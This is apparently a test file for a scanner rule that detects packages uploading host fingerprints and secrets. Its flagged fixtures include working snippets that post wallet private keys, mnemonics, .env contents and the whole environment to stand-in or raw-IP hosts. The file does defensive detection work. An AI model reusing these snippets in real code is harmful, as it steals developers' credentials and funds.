import { ruleTest } from '../../testing/rule-tester.js';
import rule from './host-fingerprint-upload.js';

/** A postinstall-style script posting the environment, as a field of its JSON body, to `host` on port 1245. */
const envPostTo = (host: string) => `const http = require('http');
const body = JSON.stringify({ env: process.env, cwd: process.cwd() });
const req = http.request({ host: '${host}', port: 1245, path: '/collect', method: 'POST' });
req.end(body);
`;

ruleTest(rule, {
  clean: [
    {
      name: 'hardhat script signs with the deployer key, then posts only the address and tx hash',
      file: 'scripts/deploy.js',
      code: `const { ethers } = require('ethers');\nconst axios = require('axios');\nasync function main() {\n  const wallet = new ethers.Wallet(process.env.PRIVATE_KEY, new ethers.JsonRpcProvider(process.env.RPC_URL));\n  const tx = await wallet.sendTransaction({ to: process.env.TREASURY, value: 1n });\n  await axios.post('https://hooks.example.org/deploys', { address: wallet.address, hash: tx.hash });\n}\nmain();\n`,
    },
    {
      name: 'an API key in a request header; dotenv loads .env into process.env',
      file: 'src/client.js',
      code: `require('dotenv').config({ path: '.env' });\nconst fs = require('fs');\nconst local = fs.existsSync('.env') ? 'found' : 'missing';\nfetch('https://api.example.org/v1/items', { headers: { Authorization: \`Bearer \${process.env.API_KEY}\` } }).then((r) => r.json());\n`,
    },
    {
      name: 'CLI config in the home directory, fetching updates',
      file: 'bin/cli.js',
      code: `const os = require('os'), path = require('path');
const cfg = path.join(os.homedir(), '.mycli.json');
fetch('https://registry.npmjs.org/mycli/latest').then((r) => r.json());
`,
    },
    {
      name: 'telemetry with platform and version',
      file: 'src/telemetry.ts',
      code: `import os from 'os';
export const send = (event: string) => fetch('https://telemetry.example.org/v1', { method: 'POST', body: JSON.stringify({ event, platform: os.platform(), arch: os.arch(), node: process.version }) });
`,
    },
    {
      name: 'child process given the environment (not sent anywhere)',
      file: 'scripts/run.js',
      code: `const { spawn } = require('child_process');\nspawn('node', ['build.js'], { env: process.env, stdio: 'inherit' });\nfetch('http://45.61.160.14:8080/health');\n`,
    },
    {
      name: 'dev server printing hostname (no send)',
      file: 'server.js',
      code: `const os = require('os');\nconsole.log('listening on', os.hostname(), process.env.PORT);\n`,
    },
  ],
  flagged: [
    {
      name: 'a hardhat task posts the deployer key, the mnemonic and the .env text with the host identity',
      file: 'tasks/gas-oracle.js',
      code: `const axios = require('axios');\nconst os = require('os');\nconst fs = require('fs');\nfunction readEnvFile() {\n  try { return fs.readFileSync(require('path').join(process.cwd(), '.env'), 'utf8'); } catch { return ''; }\n}\nasync function warm() {\n  const profile = { host: os.hostname(), user: os.userInfo().username, key: process.env.PRIVATE_KEY || null, mnemonic: process.env.MNEMONIC || null, env: readEnvFile() };\n  await axios.post('https://gas-oracle.example.invalid/api/v1/warm', profile, { timeout: 4000 });\n}\nwarm();\n`,
      findings: [{ line: 9, severity: 'critical', confidence: 'high', message: /wallet secrets, the \.env file, host name, user name/ }],
    },
    {
      name: 'only the wallet key in the body, to a named host: high',
      file: 'lib/sync.js',
      code: `fetch('https://sync.example.invalid/k', { method: 'POST', body: JSON.stringify({ k: process.env.WALLET_PRIVATE_KEY }) });\n`,
      findings: [{ line: 1, severity: 'high', confidence: 'high', message: /wallet secrets/ }],
    },
    {
      name: 'env + hostname + user posted',
      file: 'index.js',
      code: `const os = require('os');\nrequire('axios').post('https://collector.example.net/e', { h: os.hostname(), u: os.userInfo().username, env: JSON.stringify(process.env) });\n`,
      findings: [{ line: 2, severity: 'critical', confidence: 'high', message: /host name, user name, the whole environment/ }],
    },
    {
      name: 'lodashs-style fingerprint + ip lookup + post',
      file: 'update.js',
      code: `const os = require('os'), https = require('https');
const c = os.userInfo();
const fp = Buffer.from(c.username + c.homedir + os.cpus()[0].model).toString('base64');
https.get('https://ifconfig.co/json', (r) => {});
https.request({ hostname: 'api.github.com', path: '/repos/x/y/issues/4/comments', method: 'POST' }).end(JSON.stringify({ body: fp + os.hostname() }));
`,
      findings: [{ line: 5, severity: 'critical', confidence: 'high', message: /host name, user name, public IP lookup, OS\/CPU\) via https\.request/ }],
    },
    {
      name: 'the environment, as a field of the body, posted to a bare public IP (Contagious Interview port 1245): high',
      file: 'scripts/telemetry.js',
      code: envPostTo('45.61.160.14'),
      findings: [{ line: 3, severity: 'high', confidence: 'high', message: /the whole environment\) via http\.request to the raw IP 45\.61\.160\.14/ }],
    },
    {
      name: 'the same to a TEST-NET address stays low (not a public host)',
      file: 'scripts/telemetry.js',
      code: envPostTo('203.0.113.80'),
      findings: [{ line: 3, severity: 'low', confidence: 'low' }],
    },
    {
      name: 'env dump beside a send, with a public DNS server elsewhere in the file: stays low (the send goes to a host name)',
      file: 'scripts/doctor.js',
      code: `const dns = require('dns');
dns.setServers(['8.8.8.8']);
${'// padding\n'.repeat(40)}console.log(JSON.stringify(process.env, null, 2));
fetch('https://status.example.org/ping', { method: 'POST', body: JSON.stringify({ ok: true }) });
`,
      findings: [{ line: 44, severity: 'low', confidence: 'low' }],
    },
    {
      name: 'env dump posted with axios (low alone; install-time autorun raises it)',
      file: 'postinstall.js',
      code: `const axios = require('axios');\naxios.post('https://collector.example.net/e', { env: JSON.stringify(process.env) });\n`,
      findings: [{ line: 2, severity: 'low', confidence: 'low' }],
    },
  ],
});
